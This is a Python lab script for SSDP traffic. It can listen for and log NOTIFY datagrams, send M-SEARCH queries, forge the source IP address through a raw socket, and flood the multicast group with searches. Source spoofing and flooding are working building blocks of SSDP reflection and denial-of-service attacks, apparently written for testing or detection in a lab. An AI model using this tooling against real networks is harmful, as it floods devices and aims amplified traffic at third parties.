#!/usr/bin/env python3
"""SSDP from a lab host, as a control point or an attacker sends and hears it.

  listen --log FILE                 hear SSDP on 239.255.255.250:1900 (NOTIFYs) and print one line a
                                    datagram: "<time> <src>:<port> <first line> nt=.. nts=.. usn=.. location=.."
                                    (flushed at once); prints "listening" when joined
  search [--st ST] [--mx MX] [--to ADDR] [--source IP] [--wait S]
                                    one M-SEARCH (to the group, or unicast --to); with --source a raw
                                    socket forges the source address. Prints each answer heard
                                    ("<src>:<port> <st> location=..") and exits 1 when none came
  flood --count N [--st ST] [--mx MX] [--source IP]
                                    N M-SEARCHes to the group as fast as the host sends them
"""
import argparse
import socket
import struct
import sys
import time

GROUP = "239.255.255.250"
PORT = 1900


def request(st: str, mx: str) -> bytes:
    return (f'M-SEARCH * HTTP/1.1\r\nHOST: {GROUP}:{PORT}\r\nMAN: "ssdp:discover"\r\nMX: {mx}\r\nST: {st}\r\n\r\n').encode()


def headers(data: bytes) -> dict:
    lines = data.decode(errors="replace").split("\r\n")
    fields = {"first": lines[0]}
    for line in lines[1:]:
        if ":" in line:
            name, value = line.split(":", 1)
            fields[name.strip().lower()] = value.strip()
    return fields


def listen(args: argparse.Namespace) -> int:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((GROUP, PORT))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton("0.0.0.0"))
    with open(args.log, "a", buffering=1) as log:
        print("listening", flush=True)
        while True:
            data, sender = sock.recvfrom(4096)
            f = headers(data)
            log.write(f"{time.time():.3f} {sender[0]}:{sender[1]} {f['first']} nt={f.get('nt', '-')} "
                      f"nts={f.get('nts', '-')} usn={f.get('usn', '-')} location={f.get('location', '-')}\n")


def forged(source: str, destination: str, payload: bytes) -> bytes:
    udp = struct.pack("!HHHH", 40000, PORT, 8 + len(payload), 0) + payload  # checksum 0: none (RFC 768)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 2, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(source), socket.inet_aton(destination))
    return header + udp


def sender(source):
    if source:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        return sock, lambda payload, to: sock.sendto(forged(source, to, payload), (to, 0))
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 2)
    return sock, lambda payload, to: sock.sendto(payload, (to, PORT))


def search(args: argparse.Namespace) -> int:
    sock, send = sender(args.source)
    send(request(args.st, args.mx), args.to)
    if args.source:  # answers go to the forged source, not here
        time.sleep(args.wait)
        return 1
    answers = 0
    deadline = time.monotonic() + args.wait
    while (remaining := deadline - time.monotonic()) > 0:
        sock.settimeout(remaining)
        try:
            data, peer = sock.recvfrom(4096)
        except socket.timeout:
            break
        f = headers(data)
        answers += 1
        print(f"{peer[0]}:{peer[1]} {f.get('st', '-')} location={f.get('location', '-')}", flush=True)
    return 0 if answers else 1


def flood(args: argparse.Namespace) -> int:
    _, send = sender(args.source)
    payload = request(args.st, args.mx)
    sent = 0
    for _ in range(args.count):
        try:
            send(payload, GROUP)
            sent += 1
        except OSError:  # a full socket buffer: the next one
            pass
    print(f"sent={sent}")
    return 0


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    commands = parser.add_subparsers(dest="command", required=True)
    p = commands.add_parser("listen")
    p.add_argument("--log", required=True)
    p.set_defaults(run=listen)
    for name, run in (("search", search), ("flood", flood)):
        p = commands.add_parser(name)
        p.add_argument("--st", default="ssdp:all")
        p.add_argument("--mx", default="1")
        p.add_argument("--source")
        p.set_defaults(run=run)
        if name == "search":
            p.add_argument("--to", default=GROUP)
            p.add_argument("--wait", type=float, default=2.0)
        else:
            p.add_argument("--count", type=int, required=True)
    args = parser.parse_args()
    return args.run(args)


if __name__ == "__main__":
    sys.exit(main())
